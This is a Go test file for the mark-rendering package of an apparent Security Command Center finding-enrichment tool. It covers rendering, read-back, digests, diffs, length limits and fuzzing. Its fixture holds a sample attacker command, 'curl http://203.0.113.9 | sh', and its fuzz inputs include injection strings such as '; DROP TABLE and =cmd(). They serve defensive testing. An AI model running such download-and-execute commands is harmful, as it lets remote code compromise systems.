package marks

import (
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/record"
)

var (
	event = time.Date(2026, 11, 22, 10, 0, 0, 120_000_000, time.UTC)
	hash  = strings.Repeat("0123456789abcdef", 4)
)

// full is a record with something for every mark.
func full() *record.Record {
	return &record.Record{
		SchemaVersion: 1, Time: event.Add(9 * time.Second), Status: record.Partial,
		Finding: record.Finding{EventTime: event},
		Workload: record.Workload{
			Key: "run/shop/europe-west1/service/checkout", Revision: "checkout-00042-abc", Container: "app",
			Image: "europe-docker.pkg.dev/shop/r/checkout@sha256:" + hash, ServiceAccount: "run@shop.iam.gserviceaccount.com",
		},
		Process:    &record.Story{Tree: "java(1) > sh(17)", Command: "sh -c 'curl http://203.0.113.9 | sh'"},
		Behaviors:  []record.Behavior{{Name: "reverse_shell"}, {Name: "download_and_execute"}},
		Indicators: []record.Indicator{{Kind: "url", Value: "hxxp://203[.]0[.]113[.]9/a,b"}, {Kind: "path", Value: "/tmp/x"}, {Kind: "hash", Value: hash}},
		Incident: &record.Incident{
			ID: "inc-0123456789ab", Start: event.Add(-time.Minute), End: event, RelatedCount: 3, RelatedMuted: 1,
			Categories: []record.Count{{Name: "Reverse Shell", Count: 2}, {Name: "Impact: X (CVE-1), y", Count: 1}},
		},
		Logs: &record.Logs{
			URL:     "https://console.cloud.google.com/logs/query;query=x?project=shop",
			Signals: []record.Signal{{Kind: "shell_output", Count: 3}, {Kind: "http_5xx", Count: 12}},
			Excerpt: []string{"10:00:00.000Z uid=0(root)", "10:00:01.000Z POST /upload 500 from 198[.]51[.]100[.]7"},
		},
		LastDeploy: &record.Deploy{Time: event.Add(-time.Hour), Principal: "dev@example.com", Revision: "checkout-00042-abc", Source: "logs"},
		Reputations: []record.Reputation{
			{Kind: "file", Verdict: "clean", Engines: 70, State: "ok"},
			{Kind: "file", Verdict: "malicious", Malicious: 58, Engines: 72, Label: "trojan.mirai", State: "ok", URL: "https://www.virustotal.com/gui/file/" + hash},
		},
		Attack: record.Attack{Version: "18.1", Tactics: []record.Entry{{ID: "TA0002"}, {ID: "TA0011"}}, Techniques: []record.Entry{{ID: "T1059.004"}, {ID: "T1105"}}},
		Assessment: record.Assessment{
			Verdict: "malicious", Score: 95, OwnScore: 7, Priority: "p1", NextAction: "contain_now", Summary: "A reverse shell.", Exposure: "public",
			ConfigRisks: []string{"allusers_invoker", "default_service_account"},
			Reasons:     []record.Reason{{ID: "fresh_deploy", Points: -10}, {ID: "capped", Points: 0}, {ID: "vt_malicious", Points: 50}, {ID: "reverse_shell", Points: 40}},
		},
		Plan: []record.Step{{Title: "Keep the logs", Command: "gcloud logging read 'x' \\\n  --project=shop"}, {Title: "Ask the owner"}},
		Sources: []record.Source{
			{Name: "findings", State: "ok"}, {Name: "logs", State: "empty"}, {Name: "config", State: "denied"}, {Name: "virustotal", State: "quota"},
		},
	}
}

func TestRender(t *testing.T) {
	t.Parallel()
	set := Render(full(), "Enrich_")
	want := map[string]string{
		"enrich_schema": "1", "enrich_status": "partial",
		"enrich_sources":    "findings=ok,logs=empty,config=denied,virustotal=quota",
		"enrich_event_time": "2026-11-22T10:00:00.120000000Z", "enrich_time": "2026-11-22T10:00:09Z",
		"enrich_digest":  set.Digest,
		"enrich_verdict": "malicious", "enrich_score": "095", "enrich_own_score": "007", "enrich_priority": "p1",
		"enrich_reasons": "vt_malicious(+50),reverse_shell(+40),fresh_deploy(-10)", "enrich_summary": "A reverse shell.",
		"enrich_next_action": "contain_now",
		"enrich_plan":        "1. Keep the logs: gcloud logging read 'x' --project=shop ⏎ 2. Ask the owner",
		"enrich_process":     "java(1) > sh(17)", "enrich_command": "sh -c 'curl http://203.0.113.9 | sh'",
		"enrich_behaviors": "reverse_shell,download_and_execute", "enrich_tactics": "TA0002,TA0011", "enrich_techniques": "T1059.004,T1105",
		"enrich_indicators": "hxxp://203[.]0[.]113[.]9/a b," + hash,
		"enrich_workload":   "run/shop/europe-west1/service/checkout", "enrich_revision": "checkout-00042-abc", "enrich_container": "app",
		"enrich_image": "europe-docker.pkg.dev/shop/r/checkout@sha256:" + hash, "enrich_service_account": "run@shop.iam.gserviceaccount.com",
		"enrich_exposure": "public", "enrich_config_risks": "allusers_invoker,default_service_account",
		"enrich_last_deploy": "2026-11-22T09:00:00Z by dev@example.com revision checkout-00042-abc",
		"enrich_log_signals": "shell_output(3),http_5xx(12)",
		"enrich_log_excerpt": "10:00:00.000Z uid=0(root) ⏎ 10:00:01.000Z POST /upload 500 from 198[.]51[.]100[.]7",
		"enrich_logs_url":    "https://console.cloud.google.com/logs/query;query=x?project=shop",
		"enrich_vt":          "malicious 58/72 trojan.mirai", "enrich_vt_url": "https://www.virustotal.com/gui/file/" + hash,
		"enrich_incident": "inc-0123456789ab", "enrich_related_count": "3", "enrich_related": "Reverse Shell(2),Impact: X CVE-1 y(1)", "enrich_related_muted": "1",
		"enrich_incident_start": "2026-11-22T09:59:00.12Z", "enrich_incident_end": "2026-11-22T10:00:00.12Z",
	}
	if diff := cmp.Diff(want, set.Values); diff != "" {
		t.Errorf("Render (-want +got):\n%s", diff)
	}
	if len(set.Values) != len(Names()) {
		t.Errorf("%d marks, but %d names: the full record should have all", len(set.Values), len(Names()))
	}
}

func TestAbsent(t *testing.T) {
	t.Parallel()
	rec := &record.Record{Time: event, Status: "partial", Assessment: record.Assessment{Verdict: "unknown"}, Sources: full().Sources}
	got := slices.Sorted(maps.Keys(Render(rec, "e_").Values))
	want := []string{"e_digest", "e_own_score", "e_schema", "e_score", "e_sources", "e_status", "e_time", "e_verdict"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("marks of a record with nothing to say (-want +got):\n%s", diff)
	}
}

func TestVerdictOfReputations(t *testing.T) {
	t.Parallel()
	clean := record.Reputation{Verdict: "clean", Engines: 70}
	quota := record.Reputation{State: "quota"}
	tests := []struct {
		name string
		in   []record.Reputation
		want string
	}{
		{"none", nil, ""},
		{"clean", []record.Reputation{clean}, "clean 0/70"},
		{"clean and unchecked", []record.Reputation{clean, quota}, "clean 0/70, 1 of 2 not checked"},
		{"only unchecked", []record.Reputation{quota, quota}, ""},
		{"unknown beats clean", []record.Reputation{clean, {Verdict: "not_found"}}, "not_found"},
		{"suspicious", []record.Reputation{clean, {Verdict: "suspicious", Malicious: 1, Suspicious: 2, Engines: 60}}, "suspicious 3/60"},
		{"a bad indicator before an unknown file", []record.Reputation{{Kind: "file", Verdict: "not_found"}, {Kind: "ip", Value: "45[.]9[.]148[.]1", Verdict: "malicious", Malicious: 14, Engines: 94}}, "malicious 14/94 ip 45[.]9[.]148[.]1"},
		{"a bad file before a worse indicator", []record.Reputation{{Kind: "url", Value: "hxxp://x[.]org/", Verdict: "malicious", Malicious: 14, Engines: 94}, {Kind: "file", Verdict: "malicious", Malicious: 3, Engines: 70}}, "malicious 3/70, 1 more malicious"},
		{"an unknown indicator does not hide a clean file", []record.Reputation{{Kind: "file", Verdict: "clean", Engines: 70}, {Kind: "ip", Value: "45[.]9[.]148[.]1", Verdict: "not_found"}}, "clean 0/70"},
		{"a clean indicator", []record.Reputation{{Kind: "domain", Value: "x[.]org", Verdict: "clean", Engines: 90}, {Kind: "ip", State: "quota"}}, "clean 0/90 domain x[.]org, 1 of 2 not checked"},
		{"the number of others", []record.Reputation{
			{Kind: "url", Value: "hxxp://x[.]org/a,b", Verdict: "malicious", Malicious: 9, Engines: 90, Label: "trojan.mirai"},
			{Kind: "domain", Value: "x[.]org", Verdict: "malicious", Malicious: 5, Engines: 90}, {Kind: "ip", Verdict: "suspicious", Suspicious: 2, Engines: 90}, quota,
		}, "malicious 9/90 trojan.mirai url hxxp://x[.]org/a%2Cb, 1 more malicious, 1 more suspicious"},
		{"a long name is not half named", []record.Reputation{{Kind: "url", Value: "hxxp://x[.]org/" + strings.Repeat("a", 200), Verdict: "malicious", Malicious: 9, Engines: 90}}, "malicious 9/90 url"},
		{"malicious says so though others are unchecked", []record.Reputation{quota, {Verdict: "malicious", Malicious: 9, Engines: 60}}, "malicious 9/60"},
	}
	for _, tc := range tests {
		got := Render(&record.Record{Reputations: tc.in}, "")
		if got.Values["vt"] != tc.want {
			t.Errorf("%s: vt = %q, want %q", tc.name, got.Values["vt"], tc.want)
		}
	}
}

// TestLabel holds that a label of others brings neither notation nor a link.
func TestLabel(t *testing.T) {
	t.Parallel()
	for label, want := range map[string]string{
		"trojan.mirai/gafgyt":              "malicious 9/60 trojan.mirai/gafgyt",
		"worm:win32/x-1_a":                 "malicious 9/60 worm:win32/x-1_a",
		"a, 1 of 2 (not checked)":          "malicious 9/60 a_1_of_2_not_checked",
		"see https://evil.example/x?y=<b>": "malicious 9/60 see_https_evil.example/x_y_b",
		"x:///y":                           "malicious 9/60 x_y",
		" ,() ":                            "malicious 9/60",
		"":                                 "malicious 9/60",
		strings.Repeat("long", 100):        "malicious 9/60 " + strings.Repeat("long", 16),
	} {
		got := Render(&record.Record{Reputations: []record.Reputation{{Verdict: "malicious", Malicious: 9, Engines: 60, Label: label}}}, "").Values["vt"]
		if got != want {
			t.Errorf("label %q: vt = %q, want %q", label, got, want)
		}
	}
}

// TestPlanContainsFirst holds that who is told to contain reads how in the
// mark, after the evidence, with every command whole.
func TestPlanContainsFirst(t *testing.T) {
	t.Parallel()
	step := func(phase, id string, size int) record.Step {
		s := record.Step{ID: id, Phase: phase, Title: "Do " + id}
		if size > 0 {
			s.Command = "gcloud " + id + " " + strings.Repeat("x", size) + " --end"
		}
		return s
	}
	plan := func(size int) []record.Step {
		return []record.Step{
			step("evidence", "save_config", size), step("evidence", "save_revision", size), step("evidence", "save_iam_policy", size),
			step("evidence", "save_logs", size), step("evidence", "keep_image", size),
			step("scope", "contact_owner", 0), step("scope", "other_findings", size), step("scope", "identity_activity", size),
			step("contain", "traffic_back", size), step("contain", "limit_ingress", size), step("eradicate", "rebuild", 0),
		}
	}
	order := func(mark string) (ids []string) {
		for line := range strings.SplitSeq(mark, between) {
			_, id, _ := strings.Cut(line, "Do ")
			id, command, has := strings.Cut(id, ":")
			ids = append(ids, id)
			if has && !strings.HasSuffix(command, " --end") {
				t.Errorf("the command of %s is cut: %q", id, command)
			}
		}
		return ids
	}
	for _, tc := range []struct {
		name, action string
		size         int
		want         []string
	}{
		{"contain", "contain_now", 100, []string{"save_config", "save_revision", "save_logs", "traffic_back", "limit_ingress", "contact_owner", "other_findings", "identity_activity", "rebuild"}},
		{"contain, long", "contain_now", 400, []string{"save_config", "save_revision", "save_logs", "traffic_back"}},
		{"contain, longer", "contain_now", 800, []string{"save_config", "save_revision", "save_logs", "traffic_back"}},
		{"contain, too long", "contain_now", 5000, []string{"save_config", "save_revision", "save_logs", "traffic_back", "limit_ingress", "contact_owner", "other_findings", "identity_activity", "rebuild"}},
		{"investigate", "investigate", 300, []string{"save_config", "save_revision", "save_iam_policy", "save_logs", "keep_image", "contact_owner"}},
	} {
		rec := &record.Record{Assessment: record.Assessment{NextAction: tc.action}, Plan: plan(tc.size)}
		mark := Render(rec, "").Values["plan"]
		if n := utf8.RuneCountInString(mark); n > maxLong {
			t.Errorf("%s: %d characters", tc.name, n)
		}
		if diff := cmp.Diff(tc.want, order(mark)); diff != "" {
			t.Errorf("%s (-want +got):\n%s\n%s", tc.name, diff, mark)
		}
		if tc.action == "contain_now" && tc.size < maxLong/2 && !strings.Contains(mark, "gcloud traffic_back ") {
			t.Errorf("%s: no command to contain: %s", tc.name, mark)
		}
		if !strings.HasPrefix(mark, "1. ") {
			t.Errorf("%s: %q", tc.name, mark)
		}
	}
	only := Render(&record.Record{Assessment: record.Assessment{NextAction: "contain_now"}, Plan: []record.Step{step("evidence", "keep_image", 10), step("scope", "contact_owner", 0)}}, "").Values["plan"]
	if diff := cmp.Diff([]string{"keep_image", "contact_owner"}, order(only)); diff != "" {
		t.Errorf("nothing to contain (-want +got):\n%s", diff)
	}
}

func TestReadBack(t *testing.T) {
	t.Parallel()
	set := Render(full(), "enrich_")
	all := map[string]string{"owner": "me", "enrich_foo": "not ours", "enrichment": "x"}
	for k, v := range set.Values { // as Security Command Center may give them back
		all[strings.ToUpper(k)] = "  " + strings.ToUpper(v) + " "
	}
	got := Read("enrich_", all)
	if len(got.Keys) != len(Names()) || !slices.IsSorted(got.Keys) || got.Keys[0] != "ENRICH_BEHAVIORS" {
		t.Errorf("keys = %v", got.Keys)
	}
	got.Keys = nil
	want := Known{
		Present: true, Schema: Schema, Status: "partial", EventTime: event, Time: event.Add(9 * time.Second).Truncate(time.Second), Digest: set.Digest, Intact: true,
		Verdict: "malicious", Priority: "p1", Incident: "inc-0123456789ab", NextAction: "contain_now", Summary: "A REVERSE SHELL.", Score: 95,
		Sources: map[string]string{"findings": "ok", "logs": "empty", "config": "denied", "virustotal": "quota"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Read (-want +got):\n%s", diff)
	}
}

func TestIntact(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		edit func(map[string]string)
		want bool
	}{
		{"as written", func(map[string]string) {}, true},
		{"another time", func(m map[string]string) { m["enrich_time"] = "2027-01-01T00:00:00Z" }, true},
		{"somebody else's mark", func(m map[string]string) { m["enrich_foo"] = "x" }, true},
		{"a value changed", func(m map[string]string) { m["enrich_verdict"] = "likely_benign" }, false},
		{"a mark removed", func(m map[string]string) { delete(m, "enrich_vt") }, false},
		{"the digest removed", func(m map[string]string) { delete(m, "enrich_digest") }, false},
		{"a mark moved", func(m map[string]string) {
			m["enrich_container"], m["enrich_revision"] = m["enrich_revision"], m["enrich_container"]
		}, false},
	}
	for _, tc := range tests {
		m := Render(full(), "enrich_").Values
		tc.edit(m)
		if got := Read("enrich_", m).Intact; got != tc.want {
			t.Errorf("%s: intact = %v, want %v", tc.name, got, tc.want)
		}
	}
	if got := Read("enrich_", map[string]string{"owner": "me"}); got.Present || got.Intact || got.Score != -1 {
		t.Errorf("nothing of ours: %+v", got)
	}
}

func TestDigestIgnoresTime(t *testing.T) {
	t.Parallel()
	a, b, c := full(), full(), full()
	b.Time = b.Time.Add(time.Hour)
	c.Assessment.Score++
	if da, db := Render(a, "x_").Digest, Render(b, "y_").Digest; da != db {
		t.Errorf("digest depends on time or prefix: %s, %s", da, db)
	}
	if Render(a, "x_").Digest == Render(c, "x_").Digest {
		t.Error("digest does not depend on the score")
	}
}

func TestDiff(t *testing.T) {
	t.Parallel()
	want := Render(full(), "enrich_")
	tests := []struct {
		name   string
		edit   func(map[string]string)
		write  bool
		remove []string
	}{
		{"nothing new", func(map[string]string) {}, false, nil},
		{"only the time differs", func(m map[string]string) { m["enrich_time"] = "2020-01-01T00:00:00Z" }, false, nil},
		{"other case", func(m map[string]string) { m["enrich_vt"] = strings.ToUpper(m["enrich_vt"]) }, false, nil},
		{"a value differs", func(m map[string]string) { m["enrich_verdict"] = "unknown" }, true, nil},
		{"a mark is missing", func(m map[string]string) { delete(m, "enrich_plan") }, true, nil},
		{"the digest is missing", func(m map[string]string) { delete(m, "enrich_digest") }, true, nil},
		{"marks of others stay", func(m map[string]string) { m["enrich_foo"], m["owner"] = "x", "y" }, false, nil},
		{"nothing there", func(m map[string]string) { clear(m) }, true, nil},
	}
	for _, tc := range tests {
		existing := maps.Clone(want.Values)
		tc.edit(existing)
		set, remove := Diff(existing, want, "enrich_")
		if (len(set) > 0) != tc.write || !slices.Equal(remove, tc.remove) {
			t.Errorf("%s: set %d marks, remove %v", tc.name, len(set), remove)
		}
		if tc.write && !maps.Equal(set, want.Values) {
			t.Errorf("%s: not the whole set is written", tc.name)
		}
	}
	alone := full()
	alone.Incident = nil
	existing := map[string]string{"ENRICH_INCIDENT": "inc-1", "enrich_related": "x(1)", "enrich_foo": "y"}
	maps.Copy(existing, Render(alone, "enrich_").Values)
	set, remove := Diff(existing, Render(alone, "enrich_"), "enrich_")
	if diff := cmp.Diff([]string{"ENRICH_INCIDENT", "enrich_related"}, remove); diff != "" || len(set) == 0 {
		t.Errorf("stale marks (-want +got):\n%s", diff)
	}
}

var (
	keyForm    = regexp.MustCompile(`^[a-z0-9_]{1,256}$`)
	digestForm = regexp.MustCompile(`^[0-9a-f]{32}$`)
)

// TestConformance renders many records with hostile and oversized texts and
// holds every mark to the limits of security_marks.proto and of the contract.
func TestConformance(t *testing.T) {
	t.Parallel()
	limits := map[string]int{"summary": 600, "command": 1000, "log_excerpt": 2000, "plan": 2000}
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range 60 {
		set := Render(random(rng), "enrich_")
		for key, value := range set.Values {
			name, _ := strings.CutPrefix(key, "enrich_")
			n := utf8.RuneCountInString(value)
			limit := limits[name]
			if limit == 0 {
				limit = MaxValue
			}
			switch {
			case !keyForm.MatchString(key) || !slices.Contains(Names(), name):
				t.Errorf("%d: key %q", i, key)
			case n < 1 || n > limit:
				t.Errorf("%d: %s has %d characters", i, key, n)
			case !utf8.ValidString(value) || strings.TrimSpace(value) != value:
				t.Errorf("%d: %s = %q", i, key, value)
			case strings.ContainsFunc(value, func(c rune) bool { return unicode.IsControl(c) || unicode.Is(unicode.Cf, c) }):
				t.Errorf("%d: %s holds a control character: %q", i, key, value)
			case name == "indicators" && strings.Count(value, ",") >= 20:
				t.Errorf("%d: %d indicators", i, strings.Count(value, ",")+1)
			}
		}
		if !digestForm.MatchString(set.Digest) {
			t.Errorf("%d: digest %q", i, set.Digest)
		}
		if k := Read("enrich_", set.Values); !k.Intact || k.Digest != set.Digest {
			t.Errorf("%d: what was written does not read back as intact", i)
		}
		if set, remove := Diff(set.Values, set, "enrich_"); len(set)+len(remove) > 0 {
			t.Errorf("%d: a write is not followed by silence", i)
		}
	}
}

// random is a record full of texts that nobody would choose.
func random(rng *rand.Rand) *record.Record {
	pieces := []string{
		"", "a", "x y", "\x00\x1b[31m", "\u202e\u200b", "日本語", "é", "\r\n", ",", "(", ")", " > ", " ⏎ ", "=", strings.Repeat("long ", 100),
		strings.Repeat("ß", 1500), "\xff\xfe", "'; DROP TABLE", "\t", "=cmd()", "😀",
	}
	text := func() string {
		var b strings.Builder
		for range rng.IntN(5) {
			b.WriteString(pieces[rng.IntN(len(pieces))])
		}
		return b.String()
	}
	texts := func(most int) []string {
		out := make([]string, rng.IntN(most))
		for i := range out {
			out[i] = text()
		}
		return out
	}
	r := full()
	r.Assessment = record.Assessment{
		Verdict: text(), Score: rng.IntN(400) - 100, OwnScore: rng.IntN(400) - 100, Priority: text(), NextAction: text(), Summary: text(),
		Exposure: text(), ConfigRisks: texts(50),
	}
	r.Workload = record.Workload{Key: text(), Revision: text(), Execution: text(), Container: text(), Image: text(), ServiceAccount: text()}
	r.Process = &record.Story{Tree: text(), Command: text()}
	r.Logs = &record.Logs{URL: text(), Excerpt: texts(30)}
	r.LastDeploy = &record.Deploy{Principal: text(), Revision: text()}
	r.Reputations = []record.Reputation{{Verdict: []string{"clean", "malicious", "not_found", "", "odd"}[rng.IntN(5)], Label: text(), URL: text()}}
	r.Incident = &record.Incident{ID: text(), RelatedCount: rng.IntN(9)}
	r.Finding.EventTime = time.Unix(rng.Int64N(4e9), rng.Int64N(1e9))
	for _, s := range texts(60) {
		r.Assessment.Reasons = append(r.Assessment.Reasons, record.Reason{ID: s, Points: rng.IntN(100) - 50})
		r.Behaviors = append(r.Behaviors, record.Behavior{Name: s})
		r.Indicators = append(r.Indicators, record.Indicator{Kind: "url", Value: s})
		r.Plan = append(r.Plan, record.Step{Title: s, Command: text()})
		r.Logs.Signals = append(r.Logs.Signals, record.Signal{Kind: s, Count: 1})
		r.Incident.Categories = append(r.Incident.Categories, record.Count{Name: s, Count: 1})
		r.Attack.Techniques = append(r.Attack.Techniques, record.Entry{ID: s})
	}
	return r
}

// TestLimits shows how values that are too long are cut.
func TestLimits(t *testing.T) {
	t.Parallel()
	rec := full()
	rec.Assessment.Summary = strings.Repeat("ä", 700)
	rec.Process.Command = strings.Repeat("c ", 900)
	rec.Process.Tree = strings.Repeat("ancestor(1) > ", 100) + "sh(17)"
	rec.Assessment.Reasons = nil
	for i := range 200 {
		rec.Assessment.Reasons = append(rec.Assessment.Reasons, record.Reason{ID: fmt.Sprintf("reason_%03d", i), Points: 200 - i})
		rec.Indicators = append(rec.Indicators, record.Indicator{Kind: "domain", Value: fmt.Sprint("d", i)})
	}
	rec.Plan = nil
	for range 10 {
		rec.Plan = append(rec.Plan, record.Step{Title: "T", Command: strings.Repeat("c", 600)})
	}
	v := Render(rec, "").Values
	if n := utf8.RuneCountInString(v["summary"]); n != 600 || !strings.HasSuffix(v["summary"], "…") {
		t.Errorf("summary of %d characters", n)
	}
	if n := utf8.RuneCountInString(v["command"]); n > 1000 || n < 990 {
		t.Errorf("command of %d characters", n)
	}
	if !strings.HasSuffix(v["process"], "ancestor(1) > sh(17)") || len(v["process"]) > 512 {
		t.Errorf("process = %q", v["process"])
	}
	if !strings.HasPrefix(v["reasons"], "reason_000(+200),") || !strings.HasSuffix(v["reasons"], ")") {
		t.Errorf("reasons = %q", v["reasons"])
	}
	if n := strings.Count(v["indicators"], ",") + 1; n != 20 {
		t.Errorf("%d indicators, want 20", n)
	}
	if got := strings.Count(v["plan"], "⏎") + 1; got != 3 {
		t.Errorf("%d steps in the plan, want the three that fit", got)
	}
}

// TestDocumented holds docs/marks.md to the names and the closed sets.
func TestDocumented(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("../../docs/marks.md")
	if err != nil {
		t.Fatal(err)
	}
	doc := string(data)
	for _, name := range Names() {
		if !strings.Contains(doc, "`"+name+"`") {
			t.Errorf("docs/marks.md does not explain %s", name)
		}
	}
	for _, row := range regexp.MustCompile("(?m)^\\| `([a-z_]+)` \\|").FindAllStringSubmatch(doc, -1) {
		if !slices.Contains(Names(), row[1]) {
			t.Errorf("docs/marks.md explains %s, which is no mark", row[1])
		}
	}
	for _, word := range closedSets() {
		if !strings.Contains(doc, "`"+word+"`") {
			t.Errorf("docs/marks.md lacks the value %s", word)
		}
	}
}

func BenchmarkRender(b *testing.B) {
	rec := full()
	b.ReportAllocs()
	for b.Loop() {
		Render(rec, "enrich_")
	}
}

func BenchmarkRead(b *testing.B) {
	all := Render(full(), "enrich_").Values
	b.ReportAllocs()
	for b.Loop() {
		Read("enrich_", all)
	}
}
